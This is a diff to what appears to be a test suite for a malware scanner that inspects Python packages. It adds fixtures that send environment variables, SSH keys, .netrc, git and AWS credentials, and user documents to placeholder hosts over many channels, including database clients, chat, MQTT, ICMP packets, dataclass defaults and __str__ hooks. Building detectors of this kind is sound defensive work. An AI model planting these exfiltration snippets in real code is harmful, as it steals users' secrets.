@@ -420,3 +420,188 @@ test('a client that logs in with its entry of the keyring does not take the stor
 
   expect((await inspect('exfiltration', file)).every((f) => f.score < 5)).toBe(true);
 });
+
+test.each([
+  [
+    'a query language',
+    [
+      'from gql import gql, Client',
+      'from gql.transport.requests import RequestsHTTPTransport',
+      "c = Client(transport=RequestsHTTPTransport(url='https://graph.tools.invalid/q'))",
+      "c.execute(gql('mutation($b:String!){add(body:$b)}'), variable_values={'b': dict(os.environ)})",
+    ],
+  ],
+  [
+    'a document store',
+    [
+      'from pymongo import MongoClient',
+      "MongoClient('mongodb+srv://u:p@c0.tools.invalid/db').db.hosts.insert_one({'env': dict(os.environ)})",
+    ],
+  ],
+  [
+    'a relational database',
+    [
+      'import psycopg2',
+      "cur = psycopg2.connect(host='203.0.113.12', dbname='x').cursor()",
+      "cur.execute('insert into h values (%s)', (str(dict(os.environ)),))",
+    ],
+  ],
+  [
+    'a chat room',
+    [
+      'from nio import AsyncClient',
+      "c = AsyncClient('https://m.tools.invalid', '@x:m')",
+      "c.room_send('!r:m', 'm.room.message', {'body': open(os.path.expanduser('~/.netrc')).read()})",
+    ],
+  ],
+  [
+    'a broker that it is connected to first',
+    [
+      'import paho.mqtt.client as mqtt',
+      'c = mqtt.Client()',
+      "c.connect('broker.tools.invalid', 1883)",
+      "c.publish('in', open(os.path.expanduser('~/.ssh/id_rsa')).read())",
+    ],
+  ],
+  [
+    'packets made by hand',
+    [
+      'from scapy.all import IP, ICMP, send',
+      "send(IP(dst='198.51.100.200') / ICMP() / open(os.path.expanduser('~/.ssh/id_ed25519'), 'rb').read())",
+    ],
+  ],
+  [
+    'an archive that is packed in memory',
+    [
+      'import io, zipfile, requests',
+      'buf = io.BytesIO()',
+      "z = zipfile.ZipFile(buf, 'w')",
+      "z.write(os.path.expanduser('~/.git-credentials'))",
+      'z.close()',
+      "requests.put('https://drop.tools.invalid/a', data=buf.getvalue())",
+    ],
+  ],
+  [
+    'a field that is made when nobody gives it',
+    [
+      'from dataclasses import dataclass, field',
+      'import urllib.request',
+      'def ident():',
+      "    return urllib.request.urlopen('https://collector.metrics.invalid/?' + str(dict(os.environ))).read()",
+      '@dataclass',
+      'class S:',
+      '    i: bytes = field(default_factory=ident)',
+      'S()',
+    ],
+  ],
+])('secrets leave through %s', async (_way, lines) => {
+  const file = wheel({ 'pkg/__init__.py': python('import os', ...lines) });
+
+  expect(await inspect('exfiltration', file)).toContainEqual(
+    expect.objectContaining({ class: 'malware', score: 10, context: 'import' }),
+  );
+});
+
+test('templates, settings and requests that are filled in are no clients, whatever address they were made with', async () => {
+  const file = wheel({
+    'pkg/__init__.py': python(
+      'import os, string, urllib.request',
+      'from jinja2 import Template',
+      "string.Template('https://docs.vendor.invalid/$HOME').safe_substitute(os.environ)",
+      "Template('https://docs.vendor.invalid/{{ HOME }}').render(os.environ)",
+      'from pydantic import BaseModel',
+      'from confuse import Configuration',
+      "Configuration('pkg').set_env(os.environ)",
+    ),
+  });
+
+  expect(await inspect('exfiltration', file)).toEqual([]);
+});
+
+test('a few lines that tell a fixed host the secrets of files, and never read an answer, are malware on call as well', async () => {
+  const lines = ['import requests', 'def load(path=".env"):', '    d = open("/root/.aws/credentials").read()'];
+  const taken = wheel({
+    'pkg/__init__.py': python(...lines, "    requests.post('https://e.tools.invalid/v', data=d)"),
+  });
+  const used = wheel({
+    'pkg/__init__.py': python(...lines, "    return requests.post('https://e.tools.invalid/v', data=d).json()"),
+  });
+
+  expect(await inspect('exfiltration', taken)).toMatchObject([{ class: 'malware', score: 10, context: 'call' }]);
+  expect(await inspect('exfiltration', used)).toMatchObject([{ class: 'suspicious', context: 'call' }]);
+});
+
+test.each([
+  [
+    'a client that was made with a key',
+    [
+      'from pyairtable import Api',
+      "Api('patInert0000000001.0f0f0f0f0f0f').table('appX', 'T').create({'env': str(dict(os.environ))})",
+    ],
+  ],
+  [
+    'a spreadsheet of the author',
+    [
+      'import gspread',
+      "gc = gspread.service_account_from_dict({'private_key': 'x'})",
+      "gc.open('log').sheet1.append_row([str(dict(os.environ))])",
+    ],
+  ],
+  [
+    'a pool that is handed paths',
+    [
+      'import requests',
+      'from concurrent.futures import ThreadPoolExecutor',
+      'def up(path):',
+      "    requests.post('https://file.tools.invalid/u', files={'f': open(path, 'rb')})",
+      "todo = [os.path.join(r, f) for r, d, fs in os.walk(os.path.expanduser('~/.ssh')) for f in fs]",
+      'ThreadPoolExecutor(8).map(up, todo)',
+    ],
+  ],
+  [
+    'an object that becomes a text',
+    [
+      'import urllib.request',
+      'class V:',
+      '    def __str__(self):',
+      "        urllib.request.urlopen('https://collector.metrics.invalid/?' + str(dict(os.environ)))",
+      "        return '1.0'",
+      "VERSION = f'{V()}'",
+    ],
+  ],
+])('secrets leave by %s', async (_way, lines) => {
+  const file = wheel({ 'pkg/__init__.py': python('import os', ...lines) });
+
+  expect(await inspect('exfiltration', file)).toContainEqual(
+    expect.objectContaining({ class: 'malware', score: 10, context: 'import' }),
+  );
+});
+
+test('documents for the storage of whoever wrote the key into the code leave, those of the caller do not', async () => {
+  const walk = [
+    'import os, dropbox',
+    'def up(box):',
+    "    for r, _, fs in os.walk(os.path.expanduser('~/Documents')):",
+    '        for f in fs:',
+    "            box.files_upload(open(os.path.join(r, f), 'rb').read(), '/' + f)",
+  ];
+  const taken = wheel({ 'pkg/__init__.py': python(...walk, "up(dropbox.Dropbox('sl.inert-token-0001'))") });
+  const own = wheel({ 'pkg/__init__.py': python(...walk, "up(dropbox.Dropbox(os.environ['DROPBOX_TOKEN']))") });
+
+  expect(await inspect('exfiltration', taken)).toMatchObject([{ class: 'malware', hosts: ['content.dropboxapi.com'] }]);
+  expect(await inspect('exfiltration', own)).toEqual([]);
+});
+
+test('secrets that are enciphered or put into settings with a long key are sent nowhere', async () => {
+  const file = wheel({
+    'pkg/__init__.py': python(
+      'import os',
+      'from cryptography.fernet import Fernet',
+      'from settings_of_others import Settings',
+      "Fernet('Zm9vYmFyMDEyMzQ1Njc4OWFiY2RlZmdoaWprbG1ubw==').encrypt(str(dict(os.environ)).encode())",
+      "Settings('pkg').read(os.environ)",
+    ),
+  });
+
+  expect(await inspect('exfiltration', file)).toEqual([]);
+});
